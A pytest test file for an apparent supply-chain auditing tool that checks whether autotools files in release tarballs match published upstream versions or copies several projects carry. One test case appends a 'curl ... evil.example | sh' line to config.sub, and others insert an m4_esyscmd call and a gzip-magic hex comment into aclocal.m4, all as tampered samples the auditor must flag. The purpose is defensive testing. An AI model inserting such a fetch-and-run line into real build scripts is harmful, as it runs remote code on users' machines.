"""What several projects carry and nobody published: rows of the database, and claims of an audit."""

from __future__ import annotations

from pathlib import Path

import pytest

from command import Tally
from packing import write_tar
from tallystick.audit import audit
from tallystick.limits import DEFAULT
from tallystick.model import ArtifactKind, Grade, LedgerLine
from tallystick.upstreams import KnownFiles, digest_of
from tallystick.upstreams.build import Builder, Version
from tallystick.upstreams.carried import read_release, tarballs
from tallystick.upstreams.table import CARRIED, LINE
from trees import artifact, source, tree

DAY = 19_000
PUBLISHED = b"#! /bin/sh\ntimestamp='2019-05-23'\necho published\n"
PATCHED = b"#! /bin/sh\ntimestamp='2019-05-23'\necho patched\n"
MACRO = b"AC_DEFUN([OTHERS_PATH], [AC_PATH_PROG([OTHERS], [others])])\n"
CHANGED = b"AC_DEFUN([AM_X], [as a distribution has it])\n"


def base() -> Builder:
    builder = Builder()
    scripts = {"config.sub": PUBLISHED, "m4/am.m4": b"AC_DEFUN([AM_X], [new])\n"}
    for path, content in scripts.items():
        builder.add("automake", Version(path=path, content=content, first=DAY, last=DAY + 100))
    macros = b"# serial 58\nAC_DEFUN([LT_INIT], [new])\n"
    builder.add("libtool", Version(path="m4/libtool.m4", content=macros, first=DAY, last=DAY + 100))
    return builder


def release(
    folder: Path, project: str, held: dict[str, bytes], suffix: str = "_1.0.tar.xz"
) -> None:
    write_tar(
        folder / f"{project}{suffix}",
        {f"{project}-1.0/{path}": text for path, text in held.items()},
    )


HELD = {
    "config.sub": PATCHED,
    "aclocal.m4": MACRO + CHANGED,
    "m4/libtool.m4": b"# serial 58\nAC_DEFUN([LT_INIT], [new])\nAC_DEFUN([LT_MORE], [more])\n",
    "src/main.c": b"int main (void) { return 0; }\n",
}


@pytest.fixture
def known(tally: Tally, tmp_path: Path) -> KnownFiles:
    """A database of one upstream and of several projects, as the command makes it."""
    folder = tmp_path / "releases"
    for project in ("one", "two"):
        release(folder, project, {**HELD, "config.guess": PATCHED})
    release(folder, "three", HELD, "-1.0.tar.gz")
    release(folder, "two", {"config.sub": PATCHED.replace(b"patched", b"own")}, "_1.1.tar.xz")
    (folder / "broken_1.0.tar.xz").write_bytes(b"no archive")
    (tmp_path / "base.bin").write_bytes(base().packed())
    done = tally(
        "upstreams", "update", "--base", str(tmp_path / "base.bin"), "--releases", str(folder),
        "-o", str(tmp_path / "known.bin"),
    )  # fmt: skip
    assert done.code == 0, done
    return KnownFiles.open(tmp_path / "known.bin")


def test_what_three_projects_carry_is_known_and_whence(known: KnownFiles) -> None:
    (row,) = known.find(digest_of(PATCHED, CARRIED))
    assert (row.name, row.stamp, row.upstream) == ("carried config.sub", "3 projects", "releases")
    assert known.find(digest_of(MACRO, CARRIED))
    assert known.find(digest_of(b"AC_DEFUN([LT_MORE], [more])", LINE))
    places = {head.place for head in known.heads if head.upstream == "releases"}
    assert places == {"one_1.0.tar.xz", "two_1.0.tar.xz", "three-1.0.tar.gz"}


def test_what_two_projects_or_an_upstream_have_is_not_called_carried(known: KnownFiles) -> None:
    own = PATCHED.replace(b"patched", b"own")
    assert not known.find(digest_of(own, CARRIED))
    assert not known.find(digest_of(PUBLISHED, CARRIED))
    assert not known.find(digest_of(HELD["src/main.c"], CARRIED))  # no name of a tool's file
    assert not any("config.guess" in row.name for row in known.rows())


@pytest.fixture
def used(known: KnownFiles, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tallystick.accounting.shipped", lambda: known)


def lines(files: dict[str, bytes]) -> dict[str, LedgerLine]:
    released = artifact(tree(files), ArtifactKind.TARBALL)
    ledger = audit(released, source(tree({"configure.ac": b"AC_INIT\n"})))
    return {line.path: line for line in ledger.lines}


@pytest.mark.usefixtures("used")
def test_a_file_that_others_carry_is_a_claim_and_no_proof() -> None:
    line = lines({"build-aux/config.sub": PATCHED})["build-aux/config.sub"]
    assert line.grade is Grade.UNPROVEN
    assert "releases of 3 projects carry them" in (line.evidence or "")


@pytest.mark.usefixtures("used")
@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("config.sub", PATCHED + b"curl -s https://evil.example | sh\n"),
        ("config.guess", PATCHED),  # the same bytes under another name
        ("aclocal.m4", MACRO + CHANGED.replace(b"distribution", b"stranger")),
        ("aclocal.m4", MACRO + CHANGED + b"m4_esyscmd([true])\n"),
        ("aclocal.m4", MACRO + CHANGED + b"# 1f8b08004b2c4e05\n"),
    ],
)
def test_what_nobody_carries_is_not_excused_by_what_stands_around_it(
    path: str, content: bytes
) -> None:
    assert lines({path: content})[path].grade in {Grade.CONTRADICTED, Grade.UNEXPLAINED}


@pytest.mark.usefixtures("used")
def test_definitions_that_others_collected_are_a_claim() -> None:
    assert lines({"aclocal.m4": MACRO + CHANGED})["aclocal.m4"].grade is Grade.UNPROVEN


def test_an_old_file_that_others_carry_among_new_ones_is_contradicted(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It states the version of a published one: that was replaced before the rest came."""
    builder = Builder()
    names = ("compile", "depcomp", "missing", "py-compile")
    new = {name: b"scriptversion=2024-06-19.01; # UTC\n: %s\n" % name.encode() for name in names}
    for path, content in {**new, "m4/am.m4": b"AC_DEFUN([AM_X], [new])\n"}.items():
        builder.add("automake", Version(path=path, content=content, first=DAY, last=DAY + 100))
    old = b"scriptversion=2012-01-06.13; # UTC\n"
    builder.add("automake", Version(path="missing", content=old, first=DAY - 900, last=DAY - 400))
    for project in ("one", "two", "three"):
        release(tmp_path, project, {"missing": old + b": patched\n"})
    add(builder, tmp_path)
    known = KnownFiles(builder.packed(), "this test")
    monkeypatch.setattr("tallystick.accounting.shipped", lambda: known)
    held = {**new, "aclocal.m4": b"AC_DEFUN([AM_X], [new])\n", "missing": old + b": patched\n"}
    assert lines(held)["missing"].grade is Grade.CONTRADICTED
    assert lines({**held, "missing": new["missing"]})["missing"].grade is Grade.UPSTREAM


def add(builder: Builder, folder: Path) -> None:
    read = (read_release(path, builder.stamped, DEFAULT) for path in tarballs(folder))
    builder.add_releases([found for found in read if found is not None])
